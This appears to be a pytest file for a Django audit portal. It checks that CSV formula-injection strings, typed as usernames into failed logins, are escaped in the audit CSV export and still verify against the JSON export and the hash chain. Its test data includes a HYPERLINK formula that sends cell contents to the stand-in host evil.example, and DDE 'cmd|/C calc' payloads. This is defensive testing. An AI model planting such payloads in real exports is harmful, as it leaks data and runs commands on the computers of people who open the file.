"""CSV formula injection: what an anonymous visitor types as a username reaches the audit export, escaped.

The attack strings are planted as an attacker would, through failed logins; the CSV carries them
escaped by the OWASP rule and says so on its first line; un-escaped, they are exact (the JSON export's
values) and the CSV re-verifies as a chain, with `verify_audit --export`.
"""

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse

from apps.audit.models import AuditEvent
from hafnium_portal.csv_safe import ESCAPING_NOTE, csv_escape, csv_lines, csv_read, csv_unescape

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),  # so that removing one leading ' always gives the value back
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_escaped_and_read_back_exactly(value, escaped):
    assert csv_escape(value) == escaped
    assert csv_unescape(escaped) == ("" if value is None else str(value))


def test_a_csv_written_and_read_back_gives_the_exact_values():
    rows = [[attack, "-", "'", "x,y", 'say "hi"', "line\nbreak"] for attack in ATTACKS]

    text = "".join(csv_lines(["a", "b", "c", "d", "e", "f"], rows))

    assert text.splitlines()[0] == ESCAPING_NOTE
    assert [list(row.values()) for row in csv_read(io.StringIO(text, newline=""))] == rows


def test_a_csv_without_the_escaping_note_is_refused():
    with pytest.raises(ValueError, match="escaping note"):
        list(csv_read(io.StringIO("id,actor\n1,=cmd\n")))


@pytest.fixture
def planted():
    """The attack strings, typed as usernames into the login form by an anonymous visitor."""
    visitor = Client()
    for attack in ATTACKS:
        response = visitor.post(reverse("accounts:login"), {"username": attack, "password": "guess-guess"})
        assert response.status_code == 200  # the form again, with its error
    events = list(AuditEvent.objects.filter(action="auth.login_failed").order_by("id"))
    assert [(event.actor, event.object_repr) for event in events] == [(a, a) for a in ATTACKS]
    return events


def export(client, kind: str) -> str:
    response = client.get(reverse(f"audit:export-{kind}"))
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_login_usernames_reach_the_csv_export_escaped(client, compliance, planted):
    client.force_login(compliance)

    text = export(client, "csv")

    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert lines[0] == [ESCAPING_NOTE]
    header = lines[1]
    failed = [dict(zip(header, line, strict=True)) for line in lines[2:] if "auth.login_failed" in line]
    assert [row["actor"] for row in failed] == ["'" + attack for attack in ATTACKS]
    assert [row["object_repr"] for row in failed] == ["'" + attack for attack in ATTACKS]
    # No cell of the whole file starts as a formula would.
    assert not [cell for line in lines for cell in line if cell.startswith(DANGEROUS_STARTS)]


def test_the_csv_un_escaped_equals_the_exact_json_export(client, compliance, planted):
    client.force_login(compliance)

    from_csv = list(csv_read(io.StringIO(export(client, "csv"), newline="")))
    from_json = json.loads(export(client, "json"))

    assert [row["actor"] for row in from_json if row["action"] == "auth.login_failed"] == ATTACKS  # JSON: raw
    assert len(from_csv) == len(from_json)
    for cells, event in zip(from_csv, from_json, strict=True):
        assert cells["actor"] == event["actor"]
        assert cells["object_repr"] == event["object_repr"]
        assert json.loads(cells["after"]) == event["after"]
        assert cells["hash"] == event["hash"]


def test_verify_audit_re_verifies_the_csv_and_json_exports(client, compliance, planted, tmp_path, capsys):
    client.force_login(compliance)
    csv_file, json_file = tmp_path / "trail.csv", tmp_path / "trail.json"
    csv_file.write_text(export(client, "csv"), encoding="utf-8", newline="")
    json_file.write_text(export(client, "json"), encoding="utf-8")
    count = AuditEvent.objects.count()

    call_command("verify_audit", export=str(csv_file))
    call_command("verify_audit", export=str(json_file))

    assert (
        capsys.readouterr().out.count(f"export intact: {count} events verified as a chain from genesis") == 2
    )


def test_verify_audit_names_the_row_edited_in_a_csv_export(client, compliance, planted, tmp_path):
    client.force_login(compliance)
    text = export(client, "csv")
    target = planted[1]
    edited = text.replace("'" + ATTACKS[1], "'+harmless", 1)
    assert edited != text
    path = tmp_path / "edited.csv"
    path.write_text(edited, encoding="utf-8", newline="")

    with pytest.raises(CommandError, match=f"export broken at event #{target.pk}"):
        call_command("verify_audit", export=str(path))


def test_verify_audit_refuses_a_csv_that_does_not_say_how_it_escaped(client, compliance, planted, tmp_path):
    client.force_login(compliance)
    path = tmp_path / "stripped.csv"
    path.write_text(export(client, "csv").split("\n", 1)[1], encoding="utf-8", newline="")

    with pytest.raises(CommandError, match="escaping note"):
        call_command("verify_audit", export=str(path))
